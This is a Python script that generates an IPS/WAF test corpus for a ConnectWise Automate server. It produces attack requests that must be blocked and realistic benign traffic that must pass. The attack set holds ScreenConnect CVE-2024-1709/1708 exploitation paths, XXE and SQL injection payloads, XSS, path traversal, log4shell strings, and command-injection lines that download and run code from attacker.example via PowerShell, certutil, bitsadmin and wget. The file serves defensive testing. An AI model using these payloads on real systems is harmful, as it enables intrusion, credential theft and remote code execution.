#!/usr/bin/env python3
"""Writes the IPS test corpus: attacks.jsonl (must be blocked) and benign.jsonl (must pass).

Each line: {"method", "target", "headers": [[k, v], ...], "content_type", "body", "note"}.
The benign set is shaped like real Automate traffic; values are generated from a fixed seed so
the files are reproducible: `python3 generate.py` rewrites them.
"""
import json
import random
import urllib.parse as up

R = random.Random(20261121)
HOST = "052d3c3287c38201.example.net"
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.68"


def req(method, target, note, headers=None, ct=None, body=None):
    h = [["host", HOST]] + [list(x) for x in (headers or [])]
    if ct:
        h.append(["content-type", ct])
    return {"method": method, "target": target, "headers": h, "content_type": ct or "", "body": body or "", "note": note}


def browser(extra=None):
    h = [["user-agent", R.choice([BROWSER, EDGE])], ["accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
         ["accept-language", R.choice(["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7"])],
         ["accept-encoding", "gzip, deflate, br"],
         ["cookie", "ASP.NET_SessionId=%s; cwaui=%d" % ("".join(R.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(24)), R.randint(1, 9))]]
    return h + (extra or [])


def q(s):
    return up.quote(s, safe="")


attacks = []
A = attacks.append

# --- ScreenConnect CVE-2024-1709 (setup wizard) with path spellings
for t in ["/SetupWizard.aspx/x", "/setupwizard.ASPX/literallyanything", "/SetupWizard.aspx/", "/SetupWizard.aspx",
          "/SetupWizard.aspx;x=1/y", "/(S(abc))/SetupWizard.aspx/y", "/SetupWizard.aspx./y", "/SetupWizard%2Easpx/y",
          "/SetupWizard%u002Easpx/y", "\\SetupWizard.aspx\\y", "//SetupWizard.aspx//y", "/SETUPWIZARD.ASPX/SetupWizard",
          "/SetupWizard.aspx%20/y", "/x/../SetupWizard.aspx/y"]:
    A(req("POST" if "Wizard" in t else "GET", t, "CVE-2024-1709 setup wizard"))
# --- CVE-2024-1708
for t in ["/Services/ExtensionService.ashx/InstallExtension", "/services/extensionservice.ashx/installextension?x=1",
          "/Services/ExtensionService.ashx/InstallExtension%20", "/Services//ExtensionService.ashx/InstallExtension"]:
    A(req("POST", t, "CVE-2024-1708 extension install", ct="application/json", body='["UEsDBBQAAAAIAA=="]'))
for t in ["/App_Extensions/shell.ashx", "/App_Extensions/x.aspx", "/app_extensions/CMD.ASHX", "/App_Extensions/a.ashx?c=whoami"]:
    A(req("GET", t, "CVE-2024-1708 dropped handler"))
A(req("POST", "/Services/PageService.ashx/Upload?name=..%2F..%2FApp_Extensions%2Fx.ashx", "CVE-2024-1708 zip-slip name"))
# --- anonymous installer
for t in ["/LabTech/Deployment.aspx", "/LabTech/Deployment.aspx?ID=1", "/labtech/deployment.aspx?LINUX=4&ID=2",
          "/LabTech/Deployment.aspx?MSILocations=1", "/LabTech//Deployment.aspx?ID=3", "/LabTech/Deployment.aspx.?ID=1"]:
    A(req("GET", t, "anonymous installer"))
# --- XXE to technician endpoints (CVE-2021-35066)
xxes = [
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>',
    '<?xml version="1.0"?><!doctype foo [ <!entity % p SYSTEM "http://attacker.example/p.dtd"> %p; ]><foo/>',
    '<?xml version="1.0"?>\n<!DOCTYPE\tsoap:Envelope\n[<!ENTITY  xxe  SYSTEM  "file:///C:/Windows/System32/drivers/etc/hosts">]><soap:Envelope>&xxe;</soap:Envelope>',
    '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>',
    '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///c:/inetpub/wwwroot/web.config"/></root>',
]
for i, b in enumerate(xxes):
    A(req("POST", "/LabTech/ControlCenter.asmx", "XXE control center %d" % i, [["soapaction", '"http://tempuri.org/GetVersion"']], "text/xml; charset=utf-8", b))
    A(req("POST", "/cwa/api/v1/computers/import", "XXE api %d" % i, [["authorization", "Bearer x"]], "application/xml", b))
A(req("POST", "/WCC2/api/tickets", "XXE in form arg", ct="application/x-www-form-urlencoded",
      body="data=" + q('<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>')))

# --- SQL injection, with evasions, in query, form, JSON, cookies, parameter pollution
sqli = [
    "1' or '1'='1", "1' OR 1=1--", "x' oR 'a'='a", "admin'--", "admin' #", "1) or (1=1", "' or true--",
    "1 UNION SELECT username,password FROM users", "1 UN/**/ION SEL/**/ECT 1,2,3", "1 union all select null,@@version--",
    "1;DROP TABLE computers--", "1; exec xp_cmdshell 'whoami'--", "1'; WAITFOR DELAY '0:0:5'--", "1 and sleep(5)",
    "1 AND BENCHMARK(5000000,MD5(1))", "1 and extractvalue(1,concat(0x7e,version()))", "1 and 1=1", "1 and 1=2--",
    "' and 1=1 and ''='", "1 order by 10--", "x' order by 1#", "1 union select load_file('c:/windows/win.ini')",
    "(select * from information_schema.tables)", "1'||(select pg_sleep(5))||'", "-1' union\tselect\n1,2--",
    "1%27%20or%20%271%27=%271", "%2527%20or%201=1--", "%u0027 or 1=1--", "1' or 1=1 limit 1 -- -",
    "1 or 1=1", "1' oR '1'='1' /*", "1 UNION/*!50000SELECT*/ 1,2", "a' UNION SELECT name FROM sys.objects--",
]
for i, p in enumerate(sqli):
    enc = p if "%" in p else q(p)
    where = i % 5
    if where == 0:
        A(req("GET", "/cwa/api/v1/computers?condition=" + enc, "SQLi query #%d" % i, [["authorization", "Bearer abc"]]))
    elif where == 1:
        A(req("POST", "/WCC2/Home/Login", "SQLi form #%d" % i, browser(), "application/x-www-form-urlencoded",
              "username=" + enc + "&password=x"))
    elif where == 2:
        A(req("POST", "/cwa/api/v1/computers/search", "SQLi JSON #%d" % i, [["authorization", "Bearer abc"]], "application/json",
              json.dumps({"condition": up.unquote(p), "pageSize": 10})))
    elif where == 3:
        A(req("GET", "/automate/reports?id=1&id=" + enc, "SQLi parameter pollution #%d" % i, browser()))
    else:
        A(req("GET", "/automate/", "SQLi cookie #%d" % i, [["cookie", "cwa_filter=" + enc]]))

# --- XSS
xss = [
    "<script>alert(1)</script>", "<ScRiPt>alert(document.cookie)</sCrIpT>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "&lt;script&gt;alert(1)&lt;/script&gt;", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "javascript:alert(1)", "jav&#x09;ascript:alert(1)",
    "JaVaScRiPt:eval('x')", "\"><script>alert(1)</script>", "';alert(String.fromCharCode(88))//", "<iframe src=//evil.example>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "<details open ontoggle=alert(1)>",
    "<a href=\"vbscript:msgbox(1)\">x</a>", "<div style=\"width:expression(alert(1))\">", "<img src=1 oNeRrOr=prompt(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "%u003cscript%u003ealert(1)%u003c/script%u003e", "\" onmouseover=\"alert(1)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<embed src=javascript:alert(1)>",
]
for i, p in enumerate(xss):
    enc = p if "%" in p else q(p)
    where = i % 4
    if where == 0:
        A(req("GET", "/automate/search?q=" + enc, "XSS query #%d" % i, browser()))
    elif where == 1:
        A(req("POST", "/WCC2/Home/Login", "XSS form #%d" % i, browser(), "application/x-www-form-urlencoded", "username=" + enc + "&password=x"))
    elif where == 2:
        A(req("POST", "/cwa/api/v1/tickets", "XSS JSON #%d" % i, [["authorization", "Bearer abc"]], "application/json",
              json.dumps({"Summary": up.unquote(p)})))
    else:
        A(req("GET", "/automate/", "XSS referer #%d" % i, browser([["referer", "https://x.example/?q=" + enc]])))

# --- path traversal and file disclosure
trav = ["../../../../windows/win.ini", "..\\..\\..\\boot.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%252e%252e%252fweb.config",
        "..%c0%af..%c0%afwindows/win.ini", "....//....//etc/passwd", "/etc/passwd", "c:\\windows\\system32\\config\\sam",
        "..;/..;/web.config", "file:///c:/windows/win.ini", "\\\\attacker.example\\share\\x", "php://filter/resource=index",
        "..%5c..%5cinetpub%5cwwwroot%5cweb.config", "%u002e%u002e%u2215web.config"]
for i, p in enumerate(trav):
    enc = p if "%" in p else q(p)
    if i % 3 == 0:
        A(req("GET", "/LabTech/Transfer/download.aspx?file=" + enc, "traversal query #%d" % i))
    elif i % 3 == 1:
        A(req("POST", "/cwa/api/v1/scripts/export", "traversal JSON #%d" % i, [["authorization", "Bearer a"]], "application/json", json.dumps({"path": up.unquote(p)})))
    else:
        A(req("GET", "/automate/", "traversal cookie #%d" % i, [["cookie", "lastfile=" + enc]]))
for t in ["/web.config", "/LabTech/web.config", "/trace.axd", "/elmah.axd", "/.git/config", "/App_Data/LabTech.mdb",
          "/bin/LabTech.Common.dll", "/Global.asax", "/LabTech/Agent.aspx::$DATA", "/LABTEC~1/Agent.aspx", "/automate/web.config.bak",
          "/cwa/appsettings.json.old", "/.env", "/LabTech/..%2f..%2fweb.config", "/LabTech/Updates/../../web.config",
          "/LabTech/Transfer/%252e%252e/web.config"]:
    A(req("GET", t, "file disclosure"))

# --- command injection (cmd, PowerShell, unix), log4shell, shellshock
cmds = ["127.0.0.1; cat /etc/passwd", "x | whoami", "a && ping -c 1 attacker.example", "$(id)", "`uname -a`", "x%0aid",
        "1 & cmd /c whoami", "x | powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')",
        "x; certutil -urlcache -split -f http://attacker.example/a.exe a.exe", "a|net user hacker P@ss /add",
        "powershell -nop -w hidden -c calc", "x & bitsadmin /transfer j http://attacker.example/a c:\\a",
        "a;wget http://attacker.example/x -O /tmp/x", "Set-MpPreference -DisableRealtimeMonitoring $true",
        "[System.Reflection.Assembly]::Load($b)", "x || rundll32 shell32.dll,Control_RunDLL", "|| reg add HKLM\\x /v y"]
for i, p in enumerate(cmds):
    enc = p if "%" in p else q(p)
    if i % 2 == 0:
        A(req("GET", "/automate/tools/ping?host=" + enc, "command injection query #%d" % i, browser()))
    else:
        A(req("POST", "/WCC2/api/run", "command injection form #%d" % i, browser(), "application/x-www-form-urlencoded", "cmd=" + enc))
for h in [["user-agent", "${jndi:ldap://attacker.example/a}"], ["x-api-version", "${jndi:rmi://attacker.example/x}"],
          ["user-agent", "() { :; }; /bin/bash -c 'id'"], ["referer", "${${::-j}ndi:ldap://x/y}"]]:
    A(req("GET", "/automate/", "header injection " + h[0], [h]))
A(req("GET", "/automate/?x=%24%7Bjndi%3Aldap%3A%2F%2Fa%2Fb%7D", "log4shell query"))

# --- scanners
for ua in ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
           "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
           "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 Nuclei",
           "Fuzz Faster U Fool v2.0.0-dev (ffuf)", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6",
           "Mozilla/5.0 zgrab/0.x", "Wfuzz/3.1.0"]:
    A(req("GET", "/automate/", "scanner UA", [["user-agent", ua]]))
A(req("GET", "/", "acunetix header", [["acunetix-aspect", "enabled"]]))
for t in ["/wp-login.php", "/phpmyadmin/index.php", "/actuator/env", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
          "/cgi-bin/luci", "/owa/auth/logon.aspx", "/ecp/default.aspx", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"]:
    A(req("GET", t, "probe for other software"))

# --- protocol anomalies
A(req("GET", "/automate/?x=%00%01", "NUL byte in an argument (CRS PL1 refuses only NUL in free text)"))
A(req("GET", "/automate/?next=%0d%0aSet-Cookie:%20admin=1", "response splitting"))
A(req("GET", "/automate/?next=%0aLocation:%20http://evil.example", "response splitting LF"))
A(req("GET", "/automate/?" + "&".join("a%d=1" % i for i in range(300)), "too many args"))
A(req("GET", "/automate/?q=" + "A" * 9000, "oversized query"))
A(req("GET", "/automate/", "oversized header", [["x-junk", "B" * 9000]]))
A(req("GET", "/automate/", "httpoxy", [["proxy", "http://attacker.example:8080"]]))
A(req("PROPFIND", "/automate/", "unknown method"))
A(req("POST", "/WCC2/api/x", "smuggled request in body arg", ct="application/x-www-form-urlencoded",
      body="a=" + q("x\r\nGET /cwa/api/v1/users HTTP/1.1\r\nHost: x\r\n")))
A(req("GET", "/automate/?q=%uff1cscript%uff1e", "full-width %u in query"))
A(req("GET", "/automate/?q=%c0%ae%c0%ae%c0%af", "overlong UTF-8 in query"))
A(req("GET", "/automate/", "many headers", [["x-h%d" % i, "v"] for i in range(110)]))

benign = []
B = benign.append
# --- agent check-ins with opaque bodies
for i in range(70):
    body = "".join(chr(R.randint(32, 126)) for _ in range(R.randint(200, 900)))
    if i % 7 == 0:
        body = body[:50] + "' or 1=1 -- <script> ../../ union select " + body[50:]  # opaque: may contain anything
    B(req("POST", "/LabTech/Agent.aspx", "agent check-in", [["user-agent", "LTService"], ["expect", "100-continue"]],
          "application/x-www-form-urlencoded" if i % 3 else "application/octet-stream", body))
for i in range(15):
    B(req("GET", "/LabTech/Agent.aspx", "agent version probe", [["user-agent", R.choice(["LTService", "LTSvcMon", "LTTray"])]]))
for i in range(20):
    tok = "".join(R.choice("0123456789abcdef") for _ in range(32))
    B(req("GET", "/LabTech/Deployment.aspx?InstallerToken=%s" % tok + R.choice(["", "&MSILocations=1", "&Probe=1"]), "token installer",
          [["user-agent", R.choice(["Microsoft-CryptoAPI/10.0", "curl/8.5.0", "Mozilla/5.0 (Windows NT 10.0) WindowsPowerShell/5.1.19041.4648"])]]))
for i in range(15):
    B(req("GET", R.choice(["/LabTech/Updates/LabTechAgent_%d.%d.zip", "/LabTech/Updates/Plugins/Plugin_%d_%d.zip"]) % (R.randint(200, 250), R.randint(1, 400)),
          "agent update", [["user-agent", "LTService"]]))
for i in range(15):
    tpath = "/LabTech/Transfer/%s/%s" % (R.choice(["Scripts", "Tools", "Software", "Patches"]), R.choice(["Cleanup Temp.ps1", "sysinfo.exe", "Chrome Setup (x64).msi", "KB5034441.msu"]))
    B(req("GET", tpath.replace(" ", "%20"),
          "script transfer", [["user-agent", "LTService"]]))
B(req("GET", "/LabTech/Service/LabTechRemoteAgent.msi", "agent msi"))
B(req("GET", "/LabTech/Service/LabUninstall.exe", "uninstaller"))
# --- Web Control Center browsing
pages = ["/automate/", "/automate/dashboard", "/automate/computers", "/automate/computers/%d", "/automate/clients/%d/locations",
         "/automate/scripts", "/automate/monitors", "/automate/reports/patch-compliance", "/automate/settings/users",
         "/automate/static/js/main.%s.js", "/automate/static/css/main.%s.css", "/automate/static/media/logo.%s.svg",
         "/automate/assets/fonts/roboto-v30-latin-regular.woff2", "/automate/i18n/en-US.json"]
for i in range(80):
    p = R.choice(pages)
    if "%d" in p:
        p = p % R.randint(1, 5000)
    if "%s" in p:
        p = p % "".join(R.choice("0123456789abcdef") for _ in range(8))
    if R.random() < 0.3:
        p += "?v=%d" % R.randint(2023010100, 2024123199)
    B(req("GET", p, "WCC browsing", browser([["referer", "https://%s/automate/dashboard" % HOST]])))
# --- REST API with search filters
conds = ["ComputerName like '%srv%'", "(LastContact > '2024-06-01T00:00:00') and (Client.Id = 12)", "Status = 'Online' or Status = 'Offline'",
         "Id in (101,102,103)", "OperatingSystemName like '%Windows Server 2019%'", "Client.Name = 'O''Brien Plumbing'",
         "RemoteAgentLastContact < '2024-01-01' and Type = 'Workstation'", "Location.Id = 4 and IsRebootNeeded = true",
         "(ComputerName contains 'DC') and not (Status = 'Offline')", "SerialNumber = 'C02XK1ABJGH5'", "Name like 'Patch - %'",
         "DateAdded >= '2024-03-01' and DateAdded < '2024-04-01'"]
orders = ["computerName asc", "lastContact desc", "id asc", "client.name asc, computerName asc"]
for i in range(60):
    qs = "condition=%s&pageSize=%d&page=%d&orderBy=%s" % (q(R.choice(conds)), R.choice([25, 50, 100, 250]), R.randint(1, 20), q(R.choice(orders)))
    B(req("GET", "/cwa/api/v1/%s?%s" % (R.choice(["computers", "clients", "Computers/%d/Patches" % R.randint(1, 999), "scripts", "monitors/groups", "tickets"]), qs),
          "API search", [["authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJ1IjoiMSJ9.%s" % "".join(R.choice("abcdefABCDEF0123456789_-") for _ in range(43))],
                         ["clientid", "3f2c9a7e-1b5d-4e8f-9a2b-7c6d5e4f3a2b"], ["accept", "application/json"],
                         ["user-agent", R.choice(["PostmanRuntime/7.39.0", "python-requests/2.31.0", "Go-http-client/1.1", "Rewst/1.0", "Mozilla/5.0"])]]))
for i in range(15):
    B(req("POST", "/cwa/api/v1/apitoken", "API token", [["clientid", "3f2c9a7e-1b5d-4e8f-9a2b-7c6d5e4f3a2b"]], "application/json",
          json.dumps({"UserName": R.choice(["tech1", "svc-integration", "jane.doe@msp.example"]), "Password": R.choice(["S3cure!Pass#2024", "correct horse battery staple", "P@$$w0rd^&*()", "Winter2024!!"]),
                      "TwoFactorPasscode": str(R.randint(100000, 999999))})))
for i in range(25):
    kind = i % 5
    if kind == 0:
        body = {"ComputerIds": [R.randint(1, 9999) for _ in range(3)], "ScriptId": R.randint(1, 9000), "Parameters": {"reboot": "false", "window": "22:00"}}
        path = "/cwa/api/v1/Computers/%d/Scripts" % R.randint(1, 9999)
    elif kind == 1:
        body = {"Command": {"Id": 2}, "Parameters": [R.choice(["ipconfig /all", "Get-Service -Name LTService", "gpupdate /force", "net use", "whoami /groups"])]}
        path = "/cwa/api/v1/Computers/%d/CommandExecute" % R.randint(1, 9999)
    elif kind == 2:
        body = {"Summary": R.choice(["Printer offline on 2nd floor", "User can't log in -- password expired?", "Disk > 90% on SRV-FS01", "Café POS #3 won't boot"]),
                "Body": "Reported by O'Neil at 9:30; ticket #%d. See https://portal.example/kb/123?a=1&b=2" % R.randint(1000, 9999)}
        path = "/cwa/api/v1/tickets"
    elif kind == 3:
        body = [{"op": "replace", "path": "/Comment", "value": "Decommissioned <2024-05-01>; replaced by SRV-%02d" % R.randint(1, 40)}]
        path = "/cwa/api/v1/Computers/%d" % R.randint(1, 9999)
    else:
        body = {"Name": "Patch window - %s" % R.choice(["Mon 22:00", "Sat 02:00"]), "Type": "Maintenance", "Filter": "Client.Name = 'Acme & Sons'"}
        path = "/cwa/api/v1/Groups"
    B(req(R.choice(["POST", "PATCH", "PUT"]) if kind == 3 else "POST", path, "API write", [["authorization", "Bearer x"], ["clientid", "3f2c9a7e"]], "application/json", json.dumps(body)))
# --- WCC2 logins and portal
for i in range(15):
    B(req("POST", "/WCC2/Home/Login", "WCC2 login", browser(), "application/x-www-form-urlencoded",
          "username=%s&password=%s&returnUrl=%s" % (q(R.choice(["contact@client.example", "j.smith", "front.desk@acme.example"])),
                                                      q(R.choice(["P@ssw0rd!", "Sunny-Day_42", "tr0ub4dor&3", "hunter2 is #1"])), q("/WCC2/Home/Index"))))
for i in range(15):
    B(req("GET", R.choice(["/WCC2/Home/Index", "/WCC2/Tickets?status=open", "/WCC2/Computers?client=%d" % R.randint(1, 300), "/WCC2/api/tickets/%d" % R.randint(1, 9999),
                            "/WCC2/Content/site.css?v=%d" % R.randint(1, 99), "/WCC2/Scripts/app.min.js"]), "WCC2 portal", browser()))
# --- Control Center SOAP
for i in range(15):
    op = R.choice(["GetVersion", "GetComputers", "GetScriptList", "Ping"])
    body = '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soap:Body><%s xmlns="http://tempuri.org/"><id>%d</id></%s></soap:Body></soap:Envelope>' % (op, R.randint(1, 999), op)
    B(req("POST", "/LabTech/ControlCenter.asmx", "Control Center SOAP", [["user-agent", "Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)"], ["soapaction", '"http://tempuri.org/%s"' % op]],
          "text/xml; charset=utf-8", body))
for t in ["/", "/favicon.ico", "/robots.txt", "/automate", "/cwa/api/v1/"]:
    B(req("GET", t, "misc", browser()))

# --- Parameter pollution with the payload split across duplicates: ASP.NET joins `id=a&id=b`
# into "a,b", so only the joined value holds the attack (no fixed draws: earlier lines stay put).
for i, t in enumerate([
    "/automate/reports?id=1%20union%20all%20/*&id=*/%20select%20null,null",
    "/automate/reports?ID=1%20UNION%20/*&id=*/%20SELECT%201,2,3",
    "/cwa/api/v1/computers?condition=1%20or%20/*&pageSize=5&condition=*/%201=1",
    "/automate/reports?q=%3Cimg%20src=x%20/*&q=*/%20onerror=alert(1)%3E",
]):
    A(req("GET", t, "SQLi/XSS split parameter pollution #%d" % (i + 1), [["user-agent", BROWSER], ["accept", "*/*"]]))
# --- The payload in an argument's name
for i, t in enumerate([
    "/automate/reports?%3Cscript%3Ealert(1)%3C/script%3E",
    "/cwa/api/v1/computers?pageSize=5&1%27%20or%201%3D1--=x",
]):
    A(req("GET", t, "payload in argument name #%d" % (i + 1), [["user-agent", BROWSER], ["accept", "*/*"]]))

# --- Classes of legitimate traffic found by replaying outside traffic (a seed of their own so
# earlier lines stay put): browser navigation headers whose URLs carry ordinary query strings,
# arguments whose values are URLs, dotted path segments, control bytes in free text.
R2 = random.Random(20261201)
WORDS = ["id", "ls", "cat", "sh", "nc", "rm", "echo", "ping", "curl", "sleep", "dig", "php", "cmd", "whoami", "pwsh", "net"]
NAMES = ["page", "id", "sort", "dir", "tab", "pageSize", "clientId", "locationId", "filter", "view", "q", "search", "ReturnUrl", "t", "v"]


def qs_value(name):
    if name in ("filter", "q", "search"):
        return q(R2.choice(["Name like '%srv%'", "cat food", "ls -la output", "id 123", "DC01 & DC02", "O'Brien; Sons", "echo test", "a|b",
                            "(ComputerName contains 'DC') and not (Status = 'Offline')", "sleep mode", "net use"]))
    if name == "ReturnUrl":
        return q("/automate/computers?page=%d&id=%d&sort=name" % (R2.randint(1, 9), R2.randint(1, 9999)))
    if name in ("sort", "dir", "view", "tab"):
        return R2.choice(["name", "asc", "desc", "grid", "overview", "scripts", "patches"])
    return str(R2.randint(0, 99999))


def nav_query():
    names = R2.sample(NAMES, R2.randint(1, 5))
    if R2.random() < 0.5:
        names.append(R2.choice(WORDS))  # an argument whose name is also a command word: &id=, &ls=
    R2.shuffle(names)
    return "&".join("%s=%s" % (n, qs_value(n)) for n in names)


def nav_headers(path):
    ref = "https://%s%s?%s" % (HOST, path, nav_query())
    if R2.random() < 0.2:
        ref += "#/" + R2.choice(["computers/%d?tab=2&id=5" % R2.randint(1, 999), "scripts", "monitors?x=1&ls=2"])  # SPA routes
    h = [["user-agent", R2.choice([BROWSER, EDGE])], ["referer", ref], ["accept", "*/*"],
         ["sec-ch-ua", '"Chromium";v="131", "Not_A Brand";v="24", "Google Chrome";v="131"'], ["sec-ch-ua-mobile", "?0"],
         ["sec-ch-ua-platform", '"Windows"'], ["sec-fetch-site", "same-origin"], ["sec-fetch-mode", R2.choice(["cors", "navigate", "no-cors"])],
         ["sec-fetch-dest", R2.choice(["empty", "document", "script"])], ["accept-language", "en-US,en;q=0.9"],
         ["if-none-match", 'W/"%x"' % R2.randint(1, 1 << 30)], ["x-requested-with", "XMLHttpRequest"]]
    if R2.random() < 0.5:
        h.append(["origin", "https://%s" % HOST])
    return h


for i in range(40):
    page = R2.choice(["/automate/computers", "/automate/clients/%d" % R2.randint(1, 300), "/automate/scripts", "/WCC2/Tickets", "/automate/dashboard"])
    target = R2.choice(["/automate/api/computers?%s", "/cwa/api/v1/computers?%s", "/automate/static/js/app.%s.js", "/WCC2/api/tickets?%s"])
    target = target % (nav_query() if "?" in target else "".join(R2.choice("0123456789abcdef") for _ in range(8)))
    B(req("GET", target, "browser navigation headers", nav_headers(page)))
for i in range(10):
    B(req("POST", "/automate/api/notes", "XHR with Origin and Referer", nav_headers("/automate/computers/%d" % R2.randint(1, 9999)), "application/json",
          json.dumps({"note": "checked %s" % R2.choice(["disk", "RAM & CPU", "id badge reader", "ls output attached"])})))
# Arguments whose values are URLs with their own query strings (ASP.NET forms-auth ReturnUrl).
for i in range(10):
    ret = "/automate/computers?page=%d&id=%d&%s=1" % (R2.randint(1, 9), R2.randint(1, 9999), R2.choice(WORDS))
    B(req("GET", "/automate/login?ReturnUrl=" + q(ret), "ReturnUrl with a query", browser()))
    B(req("POST", "/WCC2/Home/Login", "WCC2 login, returnUrl with a query", browser(), "application/x-www-form-urlencoded",
          "username=j.smith&password=%s&returnUrl=%s" % (q("Sunny-Day_42"), q("/WCC2/Tickets?status=open&id=%d&cat=2" % R2.randint(1, 999)))))
# Dotted names: segments ending in dots or holding dot runs that are not traversal.
for t in ["/automate/api/files/get/report../%d", "/automate/api/documents/Q3..final/%d", "/LabTech/Transfer/Software/v2...3/setup_%d.msi",
          "/cwa/api/v1/scripts/folders/My..Scripts/%d", "/automate/static/js/vendor..chunk.%d.js", "/WCC2/Documents/notes.../%d"]:
    for _ in range(2):
        B(req("GET", t % R2.randint(1, 99999), "dotted path segment", browser()))
# Control bytes in free text (terminal colours in pasted script output, form feeds, tabs).
for i in range(8):
    out = R2.choice(["\x1b[32mOK\x1b[0m service started", "line1\x0cline2", "Result:\x1b[1;31m FAILED\x1b[0m (exit 1)", "col1\tcol2\x0bnext", "beep\x07 done"])
    out = out.encode().decode("unicode_escape")
    B(req("POST", "/cwa/api/v1/tickets/%d/notes" % R2.randint(1, 9999), "control bytes in free text", [["authorization", "Bearer x"]], "application/json",
          json.dumps({"Text": "Script output: " + out})))
    B(req("GET", "/automate/api/search?q=" + q(out), "control bytes in a search", browser()))
# PowerShell subexpressions in technician scripts.
for i in range(6):
    B(req("POST", "/cwa/api/v1/Computers/%d/CommandExecute" % R2.randint(1, 9999), "PowerShell subexpression", [["authorization", "Bearer x"]], "application/json",
          json.dumps({"Command": {"Id": 2}, "Parameters": [R2.choice(["Write-Output \"Host: $($env:COMPUTERNAME)\"", "\"Disk free: $((Get-PSDrive C).Free / 1GB) GB\"",
                                                                     "Get-Date -Format 'yyyy-MM-dd'; $(Get-Service LTService).Status"])]})))

# --- Attacks in URL-valued headers are still attacks (the URL's query is arguments).
for i, (name, val) in enumerate([
    ("referer", "https://%s/automate/computers?q=%%3Cscript%%3Ealert(1)%%3C%%2Fscript%%3E" % HOST),
    ("referer", "https://%s/automate/<script>alert(document.cookie)</script>" % HOST),
    ("referer", "https://%s/automate/computers?id=1%%27%%20union%%20select%%20password%%20from%%20users--" % HOST),
    ("referer", "https://%s/automate/computers?page=2&id=1%%27%%20or%%20%%271%%27%%3D%%271" % HOST),
    ("referer", "https://%s/automate/tools?host=127.0.0.1%%3Bcat%%20/etc/passwd" % HOST),
    ("referer", "javascript:alert(document.domain)"),
    ("referer", "https://%s/x?a=%%22%%3E%%3Cimg%%20src%%3Dx%%20onerror%%3Dalert(1)%%3E" % HOST),
    ("origin", "https://%s/?x=%%3Csvg%%20onload%%3Dalert(1)%%3E" % HOST),
]):
    A(req("GET", "/automate/computers", "attack in a URL-valued header #%d (%s)" % (i + 1, name), [["user-agent", BROWSER], [name, val]]))
# Command injection through an encoded '&' in an argument is still command injection.
A(req("GET", "/automate/?a%01b=1", "control character in an argument name"))
for v in ["127.0.0.1%26whoami", "x%26%26id", "a%26cat%20/etc/passwd", "1%7Cid"]:
    A(req("GET", "/automate/tools/ping?host=" + v, "command injection after an encoded separator"))

# --- More of the traffic kinds the Automate reference describes (a seed of their own so earlier
# lines stay put): REST filter expressions of every operator, Control Center SOAP operations
# that carry a command or script, and technician commands for Windows and Linux agents.
R3 = random.Random(20261202)
API_HEADERS = [["authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJ1IjoiMiJ9.c2lnbmF0dXJl"], ["clientid", "3f2c9a7e-1b5d-4e8f-9a2b-7c6d5e4f3a2b"],
               ["accept", "application/json"], ["user-agent", "python-requests/2.31.0"]]
for cond in ["ComputerName contains 'x' and LastContact > '2024-01-01'", "Client.Id in (1, 2, 3) and Location.Id not in (7)",
             "LastContact < '2024-01-01' or LastContact = null", "Status != 'Offline' and OperatingSystemName contains 'Windows 11'",
             "(Type = 'Server' or Type = 'Workstation') and Client.Name like 'Acme%'", "Client.Name = 'Select Dental'",
             "Comment like '%drop%'", "Client.Name like 'Union Bank%'", "Id > 100 and Id <= 200", "ComputerName not like '%-old'",
             "Client.Name = 'Smith & Wesson'", "LastUpdate between '2024-01-01' and '2024-02-01'",
             "Description like '%backup failed (code 5)%'", "Name like 'DC%' and (OS like '%2016%' or OS like '%2019%')",
             "Name startswith 'SRV-' and IsMaster = false", "Client.Name = 'Order & Delete Logistics'"]:
    B(req("GET", "/cwa/api/v1/%s?condition=%s&pageSize=%d" % (R3.choice(["computers", "clients", "tickets", "monitors"]), q(cond), R3.choice([25, 100])),
          "API search, filter expression", API_HEADERS))
SCRIPTS = ["Get-Service -Name LTService | Restart-Service -Force", "Restart-Service -Name Spooler -Force",
